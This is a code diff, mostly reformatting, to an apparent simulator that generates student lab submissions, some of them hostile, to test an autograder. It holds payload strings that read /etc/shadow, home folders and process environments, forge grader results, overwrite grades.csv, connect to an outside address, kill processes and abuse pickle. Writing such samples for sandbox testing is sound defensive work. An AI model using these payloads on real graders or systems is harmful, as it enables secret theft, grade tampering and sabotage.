@@ -22,7 +22,7 @@ from sglab.labs.coursework import lab
 from sglab.labs.lab import Lab
 
 DEFAULT = ("01", "02", "05", "06", "07")
-_READ = '''
+_READ = """
 import os
 found = []
 for root in ("{folder}", os.path.expanduser("~"), "/proc/1/environ", "/etc/shadow"):
@@ -33,17 +33,18 @@ for root in ("{folder}", os.path.expanduser("~"), "/proc/1/environ", "/etc/shado
             except OSError:
                 pass
 print("STOLEN", len(found), found[:3])
-'''
-_FORGE = '''
+"""
+_FORGE = """
 import json, os, struct
-message = json.dumps({"$dict": [["result", {"$dict": [["steps", [{"$dict": [["value", True]]}] * 500], ["error", ""]]}]]}).encode()
+steps = [{"$dict": [["value", True]]}] * 500
+message = json.dumps({"$dict": [["result", {"$dict": [["steps", steps], ["error", ""]]}]]}).encode()
 for descriptor in range(3, 64):
     try:
         os.write(descriptor, struct.pack("<I", len(message)) + message)
     except OSError:
         pass
 os._exit(0)
-'''
+"""
 HOSTILE = {
     "hangs": "while True: pass\n",
     "sleeps": "import time\ntime.sleep(10_000)\n",
@@ -56,11 +57,15 @@ HOSTILE = {
     "forges_results": _FORGE,
     "writes_grades": "open('{folder}/../grades.csv', 'w').write('mallory,100')\n",
     "calls_home": "import socket\nsocket.create_connection(('192.0.2.1', 80), 1).send(b'hello')\n",
-    "kills": "import os, signal\nfor pid in range(2, 100_000):\n    try:\n        os.kill(pid, signal.SIGKILL)\n    except OSError:\n        pass\n",
+    "kills": "import os, signal\nfor pid in range(2, 100_000):\n    try:\n        os.kill(pid, "
+    "signal.SIGKILL)\n    except OSError:\n        pass\n",
     "crashes": "import ctypes\nctypes.string_at(0)\n",
-    "pickles": "class Evil:\n    def __reduce__(self):\n        return (print, ('PWNED',))\ndef page_table(*a):\n    return Evil()\nextend = update = retract = tree_mask = page_table\n",
-    "recurses": "x = []\nfor _ in range(100_000):\n    x = [x]\ndef page_table(*a):\n    return x\nextend = update = retract = tree_mask = page_table\n",
-    "exits_in_a_thread": "import threading, os\nthreading.Timer(0.01, os._exit, (0,)).start()\nimport time\ntime.sleep(1)\n",
+    "pickles": "class Evil:\n    def __reduce__(self):\n        return (print, ('PWNED',))\ndef "
+    "page_table(*a):\n    return Evil()\nextend = update = retract = tree_mask = page_table\n",
+    "recurses": "x = []\nfor _ in range(100_000):\n    x = [x]\ndef page_table(*a):\n    return "
+    "x\nextend = update = retract = tree_mask = page_table\n",
+    "exits_in_a_thread": "import threading, os\nthreading.Timer(0.01, os._exit, "
+    "(0,)).start()\nimport time\ntime.sleep(1)\n",
     "replaces_builtins": "import builtins, sys\nbuiltins.isinstance = lambda *a: True\nsys.modules.clear()\n",
 }
 
@@ -118,7 +123,8 @@ def main() -> None:
     parser.add_argument("--seed", type=int, default=0)
     options = parser.parse_args()
     kinds = simulate(options.folder, options.students, options.hostile, options.labs, options.seed)
-    print(f"{options.folder}/submissions: {len(kinds)} students, {sum('hostile' in kind for kind in kinds.values())} hostile")
+    hostile = sum("hostile" in kind for kind in kinds.values())
+    print(f"{options.folder}/submissions: {len(kinds)} students, {hostile} hostile")
 
 
 if __name__ == "__main__":
